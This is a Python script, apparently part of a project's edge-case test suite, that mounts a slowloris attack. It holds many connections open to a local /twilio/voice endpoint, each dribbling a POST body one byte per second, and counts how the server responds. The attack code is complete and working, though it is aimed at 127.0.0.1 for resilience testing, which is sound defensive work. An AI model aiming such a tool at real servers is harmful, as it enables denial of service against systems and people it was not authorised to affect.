"""Attack (b): many connections, each dribbling a POST body (a "slowloris").

Opens ``--connections`` connections to ``/twilio/voice`` from ``--source`` (one address,
or a range such as ``127.0.0.2-9``, spread evenly), sends each a request head announcing
a body, then one byte of body per connection every ``DRIBBLE_S`` until ``--seconds`` have
passed. Counts what the server did with them: accepted and held, answered, closed.
"""

from __future__ import annotations

import errno
import selectors
import socket
import time

from tests.edge.attackers.wire import allow_descriptors, arguments, http_request, report, sources

#: One byte per connection this often: far inside any per-read timeout.
DRIBBLE_S = 1.0
#: The body each request announces (never sent in full): under every route's size limit
#: (64 KiB), so that the server waits for it rather than refusing it at once.
ANNOUNCED_BYTES = 4_000


def main() -> None:
    parser = arguments(__doc__ or "")
    parser.add_argument("--connections", type=int, default=1100)
    args = parser.parse_args()
    allow_descriptors(args.connections)
    addresses = sources(args.source)
    head = http_request(
        "POST",
        "/twilio/voice",
        port=args.port,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "X-Twilio-Signature": "dribble",
            "Content-Length": str(ANNOUNCED_BYTES),
        },
    )
    selector = selectors.DefaultSelector()
    pending: set[socket.socket] = set()
    open_: set[socket.socket] = set()
    answered = refused = closed = 0
    statuses: dict[str, int] = {}
    for i in range(args.connections):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((addresses[i % len(addresses)], 0))
        code = sock.connect_ex(("127.0.0.1", args.port))
        if code not in (0, errno.EINPROGRESS):
            refused += 1
            sock.close()
            continue
        pending.add(sock)
        selector.register(sock, selectors.EVENT_WRITE)
    started = time.monotonic()
    deadline = started + args.seconds
    next_dribble = started + DRIBBLE_S
    most_open = 0
    while time.monotonic() < deadline:
        for key, events in selector.select(timeout=min(0.1, max(0.0, deadline - time.monotonic()))):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            if sock in pending:
                pending.discard(sock)
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    refused += 1
                    selector.unregister(sock)
                    sock.close()
                    continue
                try:
                    sock.send(head)
                except OSError:
                    closed += 1
                    selector.unregister(sock)
                    sock.close()
                    continue
                open_.add(sock)
                selector.modify(sock, selectors.EVENT_READ)
            elif events & selectors.EVENT_READ:
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                if data.startswith(b"HTTP/"):
                    answered += 1
                    status = data.split(b"\r\n", 1)[0].decode("latin-1")
                    statuses[status] = statuses.get(status, 0) + 1
                else:
                    closed += 1
                open_.discard(sock)
                selector.unregister(sock)
                sock.close()
        most_open = max(most_open, len(open_))
        if time.monotonic() >= next_dribble:
            next_dribble += DRIBBLE_S
            for sock in list(open_):
                try:
                    sock.send(b"x")
                except OSError:
                    closed += 1
                    open_.discard(sock)
                    selector.unregister(sock)
                    sock.close()
    held = len(open_)
    for sock in open_ | pending:
        sock.close()
    report(
        connections=args.connections,
        addresses=len(addresses),
        most_held=most_open,
        held_at_end=held,
        never_accepted=len(pending) + refused,
        answered=answered,
        statuses=statuses,
        closed_by_server=closed,
    )


if __name__ == "__main__":
    main()
